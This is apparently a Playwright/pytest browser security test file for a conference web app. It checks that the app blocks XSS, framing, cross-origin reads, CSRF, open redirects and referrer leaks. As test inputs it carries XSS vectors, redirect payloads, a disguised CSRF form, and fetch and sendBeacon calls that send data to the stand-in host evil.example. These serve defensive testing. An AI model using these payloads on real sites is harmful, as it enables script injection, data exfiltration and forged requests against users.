"""Security in a real browser: headers, cookies, forms, redirects, and attacks by another site."""

from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest
from flask import Flask
from playwright.sync_api import Browser, BrowserContext, Page, Request, Route
from sqlalchemy import update
from sqlalchemy.orm import Session

from ekc.accounts.access import By
from ekc.conferences.actions.links import revoke_links
from ekc.conferences.models import Conference
from ekc.conferences.queries.circle import circle
from ekc.core.transaction import writing
from ekc.workflow.vocabulary import Phase
from tests.build import Made, case_in_setup
from tests.cast import Cast, make_link
from tests.clock import FrozenClock
from tests.plugins.browser import PATIENCE, launched, served
from tests.plugins.web import MakeApp
from tests.tab import enter, sign_in

#: Another site on another domain; the test intercepts its requests.
EVIL = "http://evil.example"
#: Browser behaviour does not depend on the database.
pytestmark = pytest.mark.parametrize("database", ["sqlite"], indirect=True)


@pytest.fixture
def case(db_session: Session, cast: Cast, clock: FrozenClock) -> Made:
    """A case in setup; nobody looks at it."""
    made = case_in_setup(db_session, cast, clock())
    db_session.rollback()
    return made


@pytest.fixture
def context(browser: Browser, live_server: str) -> Iterator[BrowserContext]:
    """A browser of which errors are ignored."""
    with closing(browser.new_context(base_url=live_server, locale="en-GB")) as made:
        made.set_default_timeout(PATIENCE)
        yield made


def evil_page(context: BrowserContext, html: str) -> Page:
    """A page of the other site, open in the visitor's browser."""
    context.route(f"{EVIL}/**", lambda route: route.fulfill(content_type="text/html", body=html))
    page = context.new_page()
    page.goto(f"{EVIL}/")
    return page


def names(session: Session, case: Made) -> list[str]:
    session.rollback()
    return [row.name for row in circle(session, case.id)]


#: Ways to inject a script, and its source.
ADD_SCRIPT = "(given) => document.body.append(Object.assign(document.createElement('script'), given))"
ADD_HTML = "(html) => document.body.insertAdjacentHTML('beforeend', html)"
DELIVERY_WAYS = (
    (ADD_SCRIPT, {"textContent": "window.ran = 1"}),
    (ADD_SCRIPT, {"src": f"{EVIL}/x.js"}),
    (ADD_SCRIPT, {"src": "data:text/javascript,window.ran=1"}),
    (ADD_HTML, '<img src="x" onerror="window.ran = 1">'),
    (ADD_HTML + " || document.getElementById('x').click()", '<a id="x" href="javascript:window.ran=1">x</a>'),
    (ADD_HTML + " || document.baseURI.startsWith('http://evil') && (window.ran = 1)", f'<base href="{EVIL}/">'),
    ("(code) => void setTimeout(code, 0)", "window.ran = 1"),
)


def test_no_script_that_got_into_a_page_runs(context: BrowserContext) -> None:
    context.route(f"{EVIL}/**", lambda route: route.fulfill(content_type="text/javascript", body="window.ran = 1"))
    page, refused = context.new_page(), list[str]()
    page.on("console", lambda said: refused.append(said.text) if "Content Security Policy" in said.text else None)
    ran = []
    for way, given in DELIVERY_WAYS:
        page.goto("/sign-in")
        page.evaluate(way, given)
        page.evaluate("() => new Promise((done) => setTimeout(done, 50))")  # some more turns of the page
        ran.append(page.evaluate("window.ran"))

    assert ran == [None] * len(DELIVERY_WAYS)
    assert len(refused) == len(DELIVERY_WAYS)


def test_what_a_page_is_told_to_send_elsewhere_stays(context: BrowserContext) -> None:
    sent = list[Request]()
    context.on("request", lambda request: sent.append(request) if request.url.startswith(EVIL) else None)
    page = context.new_page()
    page.goto("/sign-in")
    page.get_by_label("Email address").fill("noor@example.org")

    page.evaluate(f"document.querySelector('main form').action = '{EVIL}/'")
    page.evaluate("document.querySelector('main form button').click()")
    page.evaluate(f"fetch('{EVIL}/', {{method: 'POST', body: 'x'}}).catch(() => 0)")
    page.evaluate(f"navigator.sendBeacon('{EVIL}/', 'x')")

    assert (sent, page.url.endswith("/sign-in")) == ([], True)


@pytest.mark.parametrize("where", ["another domain", "another port"])
def test_no_page_of_ours_stands_in_a_frame(context: BrowserContext, live_server: str, where: str) -> None:
    html = f'<iframe src="{live_server}/sign-in"></iframe>'
    other = Flask("other")
    other.add_url_rule("/", "page", lambda: html)
    with served(other) as address:
        page = evil_page(context, html) if where == "another domain" else context.new_page()
        if where == "another port":
            page.goto(address)
        page.wait_for_load_state("networkidle")

        [frame] = page.frames[1:]
        assert frame.url == "chrome-error://chromewebdata/"


def test_another_site_reads_nothing_of_ours(context: BrowserContext, live_server: str, cast: Cast) -> None:
    """From another port the browser sends the cookie, but does not reveal even whether a page exists."""
    sign_in(context.new_page(), cast.noor.actor.name)
    page = context.new_page()
    ask = "([url, mode]) => fetch(url, {mode, credentials: 'include'}).then(() => 'read', () => 'refused')"
    other = Flask("other")
    other.add_url_rule("/", "page", lambda: "<p>Evil</p>")
    with served(other) as address:
        page.goto(address)
        asked = [
            (f"{live_server}{path}", mode) for path in ("/", "/static/css/ekc.css") for mode in ("cors", "no-cors")
        ]
        answers = [page.evaluate(ask, list(one)) for one in asked]

    assert answers == ["refused"] * 4


@pytest.mark.parametrize("where", ["another domain", "another port"])
def test_another_site_sends_no_form_in_the_name_of_the_visitor(
    context: BrowserContext, live_server: str, db_session: Session, cast: Cast, case: Made, where: str
) -> None:
    """From another port the browser sends the cookie, but even a stolen CSRF token does not work."""
    ours = context.new_page()
    sign_in(ours, cast.noor.actor.name, f"/conferences/{case.id}/circle")
    token = ours.locator("form[action$='/circle'] input[name=csrf_token]").first.get_attribute("value")
    before = names(db_session, case)
    html = (
        f'<form method="post" action="{live_server}/conferences/{case.id}/circle">'
        f'<input name="name" value="Evil"><input name="part" value="family"><input name="csrf_token" value="{token}">'
        "<button>Win a prize</button></form>"
    )
    other = Flask("other")
    other.add_url_rule("/", "page", lambda: html)
    with served(other) as address:
        page = evil_page(context, html) if where == "another domain" else context.new_page()
        if where == "another port":
            page.goto(address)
        page.get_by_role("button").click()
        page.get_by_role("heading", name="This could not be read").wait_for()

    assert names(db_session, case) == before
    ours.reload()
    assert ours.get_by_role("button", name="Sign out").is_visible()


@pytest.mark.parametrize(
    "target", [f"{EVIL}/", "//evil.example/", "/\\evil.example/", "/%09/evil.example", "javascript:alert(1)"]
)
def test_nobody_is_sent_on_to_another_site(context: BrowserContext, live_server: str, cast: Cast, target: str) -> None:
    left = list[str]()
    context.route(f"{EVIL}/**", lambda route: _note(left, route))
    page = context.new_page()

    sign_in(page, cast.noor.actor.name, target)
    page.goto(f"/language/nl?next={target}")
    page.goto(f"/sign-in?next={target}")

    assert (left, page.url.startswith(f"{live_server}/")) == ([], True)


def _note(left: list[str], route: Route) -> None:
    left.append(route.request.url)
    route.abort()


def test_another_site_is_not_told_where_one_was(context: BrowserContext, cast: Cast, case: Made) -> None:
    told = list[str | None]()
    context.on("request", lambda r: told.append(r.headers.get("referer")) if r.url.startswith(EVIL) else None)
    context.route(f"{EVIL}/**", lambda route: route.fulfill(content_type="text/html", body="Evil"))
    page = context.new_page()
    sign_in(page, cast.noor.actor.name, f"/conferences/{case.id}")

    page.evaluate(f"location.href = '{EVIL}/'")
    page.wait_for_url(f"{EVIL}/")

    assert told == [None]


def test_cookies_by_https(
    browser: Browser, make_app: MakeApp, database_url: str, cast: Cast, clock: FrozenClock
) -> None:
    app = make_app(secure_cookies=True)
    with (
        served(app, tls=True) as address,
        closing(browser.new_context(base_url=address, locale="en-GB", ignore_https_errors=True)) as context,
    ):
        context.set_default_timeout(PATIENCE)
        page = context.new_page()
        page.goto("/language/nl?next=/language/en")
        sign_in(page, cast.noor.actor.name)

        assert page.evaluate("document.cookie") == ""
        assert sorted(
            (c["name"], c["secure"], c["httpOnly"], c["sameSite"], c["path"], c["domain"]) for c in context.cookies()
        ) == [
            ("__Host-device", True, True, "Lax", "/", "127.0.0.1"),
            ("__Host-language", True, True, "Lax", "/", "127.0.0.1"),
            ("__Host-session", True, True, "Lax", "/", "127.0.0.1"),
        ]


@pytest.fixture
def keeping_context(browser: Browser, live_server: str) -> Iterator[BrowserContext]:
    """A browser with the back/forward cache on, which Playwright turns off by default."""
    without = ["--disable-back-forward-cache"]
    with (
        closing(launched(browser.browser_type, ignore_default_args=without)) as started,
        closing(started.new_context(base_url=live_server, locale="en-GB")) as made,
    ):
        made.set_default_timeout(PATIENCE)
        yield made


def test_after_signing_out_back_shows_nothing(keeping_context: BrowserContext, cast: Cast, case: Made) -> None:
    page = keeping_context.new_page()
    sign_in(page, cast.noor.actor.name, f"/conferences/{case.id}")
    page.get_by_role("link", name="Circle", exact=True).click()
    page.get_by_role("heading", name="The circle").wait_for()
    page.evaluate("history.back()")
    page.get_by_role("heading", name="Family De Wit - El Amrani").wait_for()  # while signed in, it is still there

    page.get_by_role("button", name="Sign out").click()
    page.get_by_role("link", name="Sign in").wait_for()
    for _ in range(2):
        with page.expect_navigation():
            page.evaluate("history.back()")
        page.get_by_label("Password", exact=True).wait_for()
        assert "De Wit" not in page.content()


#: What a browser tells a page that it kept for its Back button. Ours has no windows and keeps none, so we send it.
COMES_BACK = "window.dispatchEvent(new PageTransitionEvent('pageshow', {persisted: true}))"


def test_back_shows_no_circle_after_private_time_began(
    context: BrowserContext, db_session: Session, cast: Cast, case: Made
) -> None:
    page = context.new_page()
    sign_in(page, cast.noor.actor.name, f"/conferences/{case.id}/circle")
    page.get_by_role("link", name="Linda de Wit", exact=True).wait_for()
    with writing(db_session):
        db_session.execute(update(Conference).values(phase=Phase.PRIVATE_TIME))

    with page.expect_navigation():
        hidden = page.evaluate(f"{COMES_BACK} && document.documentElement.hidden")

    page.get_by_role("heading", name="Not now").wait_for()
    assert (hidden, "Linda" in page.content()) == (True, False)


def test_back_shows_nothing_to_whoever_lost_their_link(
    context: BrowserContext, db_session: Session, cast: Cast, case: Made, clock: FrozenClock
) -> None:
    page = context.new_page()
    enter(page, make_link(db_session, clock(), case.id, case.people["linda"]))
    assert "De Wit" in page.content()
    revoke_links(By(db_session, cast.noor, clock()), case.id, case.people["linda"])

    with page.expect_navigation():
        page.evaluate(COMES_BACK)

    assert "De Wit" not in page.content()


def test_a_file_is_put_into_no_form(
    context: BrowserContext, db_session: Session, cast: Cast, case: Made, tmp_path: Path
) -> None:
    file = tmp_path / "x.html"
    file.write_text("<script>window.ran = 1</script>")
    before = names(db_session, case)
    page = context.new_page()
    sign_in(page, cast.noor.actor.name, f"/conferences/{case.id}/circle")
    page.get_by_text("Add somebody").click()
    page.evaluate(
        """() => {
            const form = document.querySelector('form[action$="/circle"]');
            form.enctype = 'multipart/form-data';
            form.append(Object.assign(document.createElement('input'), {type: 'file', name: 'name'}));
        }"""
    )

    page.locator("input[type=file]").set_input_files(file)
    page.get_by_role("button", name="Add to the circle").click()

    page.get_by_role("heading", name="This could not be read").wait_for()
    assert names(db_session, case) == before


def test_too_much_at_once_is_told_on_a_page(
    context: BrowserContext, db_session: Session, cast: Cast, case: Made
) -> None:
    page = context.new_page()
    sign_in(page, cast.noor.actor.name, f"/conferences/{case.id}/circle")
    page.get_by_text("Add somebody").click()
    page.get_by_label("Name (required)").evaluate(
        "f => { f.removeAttribute('maxlength'); f.value = 'x'.repeat(1_100_000) }"
    )

    page.get_by_role("button", name="Add to the circle").click()

    page.get_by_role("heading", name="That is too much at once").wait_for()
